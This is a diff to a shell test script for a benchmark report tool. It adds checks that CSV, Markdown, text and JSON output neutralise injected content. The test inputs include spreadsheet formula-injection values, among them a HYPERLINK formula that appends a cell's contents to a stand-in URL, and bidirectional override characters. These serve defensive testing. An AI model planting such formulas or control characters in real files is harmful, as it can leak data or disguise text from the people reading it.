@@ -7,7 +7,7 @@
 R=${LLMBENCH_REPORT:-$top_builddir/llmbench-report}
 case $R in /*) ;; *) R=$(pwd)/$R ;; esac
 PY=${PYTHON3:-python3}
-tap_plan 26
+tap_plan 30
 t=$(tap_tmpdir)
 trap 'rm -rf "$t"' EXIT
 fx=$t/fx
@@ -98,6 +98,51 @@ assert all(len(r) == 8 for r in rows), [r for r in rows if len(r) != 8][:2]
 assert any(r[1] == host for r in rows), set(r[1] for r in rows)
 rows = list(csv.reader(open(glob.glob('$t/cs/*-comm.csv')[0], newline='')))
 assert all(len(r) == 11 for r in rows) and any(r[2] == 'o,\"t' for r in rows)"
+
+# 4b. spreadsheet formulas, markdown emphasis and links, C1 and bidirectional controls
+"$R" --no-plots --csv "$t/ci" "$hx/inject.json" > "$t/i.txt" 2>&1; rc=$?
+"$R" --no-plots --format md "$hx/inject.json" > "$t/i.md" 2>&1
+"$R" --no-plots --format json "$hx/inject.json" > "$t/i.json" 2>&1
+# no_raw FILE: none of U+0085, U+202A, U+202E, U+2066, U+2069 as raw UTF-8 in FILE
+no_raw() { "$PY" -c "
+import sys
+b = open(sys.argv[1], 'rb').read()
+sys.exit(1 if any(c.encode() in b for c in '\u0085\u202a\u202e\u2066\u2069') else 0)" "$1"; }
+cat > "$t/csvinj.py" <<'PY'
+import csv, glob, sys
+t = sys.argv[1]
+def num(x):
+    try:
+        float(x)
+        return True
+    except ValueError:
+        return False
+rows = list(csv.reader(open(glob.glob(t + '/ci/inject-steps.csv')[0], newline='')))
+hosts = set(r[1] for r in rows[1:])
+want = {"'+1", "'-1", "'@SUM(1)", "'=HYPERLINK(\"http://x/\"&A1) *b*_i_[l](u) ??evil?x?"}
+assert hosts == want, hosts
+pl = set(r[2] for r in csv.reader(open(glob.glob(t + '/ci/inject-comm.csv')[0], newline='')))
+assert {"'\tx", "'\rx"} <= pl, pl
+for f in glob.glob(t + '/ci/*.csv'):
+    for r in csv.reader(open(f, newline='')):
+        bad = [x for x in r if x[:1] in ('=', '+', '-', '@', '\t', '\r') and not num(x)]
+        assert not bad, (f, bad)
+PY
+tap_check "CSV: fields beginning with = + - @ tab CR get a leading ' (OWASP), controls are ?" \
+    "$PY" "$t/csvinj.py" "$t"
+ok=0
+[ $rc -eq 0 ] && grep -qF '\u0085\u202eevil\u2066x\u2069' "$t/i.txt" && no_raw "$t/i.txt" && ok=1
+tap_check "text: C1 and bidirectional controls shown as \\uHHHH, none raw" [ $ok -eq 1 ]
+ok=0
+grep -qF '\*b\*\_i\_\[l\](u) \\u0085\\u202eevil\\u2066x\\u2069' "$t/i.md" && no_raw "$t/i.md" && ok=1
+tap_check "markdown: * _ [ ] escaped, bidirectional controls shown as \\uHHHH, none raw" [ $ok -eq 1 ]
+tap_check "JSON: ASCII only (U+202E as \\u202e), the host name kept exactly" "$PY" -c "
+import json
+b = open('$t/i.json', 'rb').read()
+assert all(c < 0x80 for c in b), 'raw non-ASCII byte'
+d = json.loads(b)
+host = '=HYPERLINK(\"http://x/\"&A1) *b*_i_[l](u) \u0085\u202eevil\u2066x\u2069'
+assert any(host in f['nodes'] for f in d['findings']), d['findings']"
 
 # 5. impossible values: one line naming the file and the JSON path, status 2
 for f in step-zero total-zero step-huge step-short steps-differ step-denormal alone-denormal; do
